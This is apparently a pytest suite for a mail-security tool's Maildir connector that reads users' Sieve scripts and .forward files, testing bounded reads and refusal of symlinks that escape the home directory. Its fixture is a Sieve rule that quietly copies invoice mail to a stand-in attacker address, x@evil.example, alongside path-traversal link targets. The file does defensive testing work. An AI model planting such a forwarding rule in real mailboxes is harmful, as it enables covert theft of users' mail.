"""An owner's Sieve script and forward file: read where they lie, bounded, never through a hostile link."""

from __future__ import annotations

import asyncio
import os
from pathlib import Path

import pytest

from clawback.errors import BadSettings, Unavailable
from clawback.mailboxes.base import Capability, RuleReader
from clawback.mailboxes.maildir import MaildirConnector
from clawback.message.mail_rules import MailRule, RuleKind
from clawback.plugins import maildir as from_options

SCRIPT = b'if header :contains "subject" "invoice" { redirect :copy "x@evil.example"; }\n'
REDIRECT = MailRule(
    RuleKind.REDIRECT, "x@evil.example", 'header :contains "subject" "invoice"', ".dovecot.sieve", True
)


def home(root: Path, user: str = "ann") -> Path:
    for part in ("cur", "new", "tmp"):
        (root / user / "Maildir" / part).mkdir(parents=True)
    return root / user


def connector(root: Path, sieve: str = "{home}/.dovecot.sieve", forward: str = "") -> MaildirConnector:
    return MaildirConnector("main", root, sieve=sieve, forward=forward)


def rules(made: MaildirConnector) -> tuple[MailRule, ...]:
    return asyncio.run(made.rules("ann@example.org"))


def test_a_script_and_a_forward_file_are_read_and_one_that_is_not_there_has_no_rules(tmp_path: Path) -> None:
    here, made = home(tmp_path), connector(tmp_path, forward="{home}/.forward")
    assert isinstance(made, RuleReader)
    assert Capability.RULES in made.capabilities()
    assert rules(made) == ()
    (here / ".dovecot.sieve").write_bytes(SCRIPT)
    (here / ".forward").write_text("\\ann, |/usr/bin/procmail")
    command = MailRule(RuleKind.COMMAND, "/usr/bin/procmail", "", ".forward", True)
    assert rules(made) == (REDIRECT, command)


def test_the_active_script_may_be_a_link_beside_the_others_and_nothing_else(tmp_path: Path) -> None:
    here, made = home(tmp_path / "root"), connector(tmp_path / "root")
    secret = tmp_path / "secret"
    secret.write_bytes(SCRIPT)
    (here / "sieve").mkdir()
    (here / "sieve" / "active.sieve").write_bytes(SCRIPT)
    link = here / ".dovecot.sieve"
    for target, seen in (("sieve/active.sieve", 1), ("sieve/none.sieve", 0)):
        link.unlink(missing_ok=True)
        link.symlink_to(target)
        assert len(rules(made)) == seen
    for target in (str(secret), "../../secret", "sieve/../../../secret"):
        link.unlink()
        link.symlink_to(target)
        with pytest.raises(Exception, match="symbolic links"):
            rules(made)
    link.unlink()
    link.symlink_to("sieve/second")
    (here / "sieve" / "second").symlink_to(str(secret))
    with pytest.raises(Exception, match="symbolic links"):
        rules(made)


def test_what_is_no_plain_file_says_nothing_and_what_may_not_be_read_is_unavailable(tmp_path: Path) -> None:
    here, made = home(tmp_path), connector(tmp_path)
    os.mkfifo(here / ".dovecot.sieve")
    assert rules(made) == ()
    (here / ".dovecot.sieve").unlink()
    (here / ".dovecot.sieve").write_bytes(SCRIPT)
    (here / ".dovecot.sieve").chmod(0)
    if os.geteuid():
        with pytest.raises(Unavailable):
            rules(made)


def test_a_large_script_is_read_to_its_bound(tmp_path: Path) -> None:
    here, made = home(tmp_path), connector(tmp_path)
    (here / ".dovecot.sieve").write_bytes(SCRIPT + b"#\n" * (1 << 20))
    found = rules(made)
    assert found[0] == REDIRECT
    assert (found[-1].kind, "larger" in found[-1].target) == (RuleKind.UNREAD, True)


@pytest.mark.parametrize(
    ("option", "template"),
    [
        ("sieve", "relative/path"),
        ("sieve", "{home}/../other"),
        ("forward", "{maildir}/{secret}"),
    ],
)
def test_paths_that_cannot_be_are_refused(tmp_path: Path, option: str, template: str) -> None:
    with pytest.raises(BadSettings, match=option):
        from_options("main", {"root": str(tmp_path), option: template}, tmp_path)


def test_a_home_needs_a_level_above_the_maildirs(tmp_path: Path) -> None:
    with pytest.raises(BadSettings, match="no home"):
        MaildirConnector("main", tmp_path, "{user}", sieve="{home}/.dovecot.sieve")


def test_scripts_may_lie_elsewhere(tmp_path: Path) -> None:
    home(tmp_path / "root")
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "ann.sieve").write_bytes(SCRIPT)
    (found,) = rules(connector(tmp_path / "root", f"{tmp_path}/scripts/{{user}}.sieve"))
    assert (found.target, found.script) == ("x@evil.example", "ann.sieve")
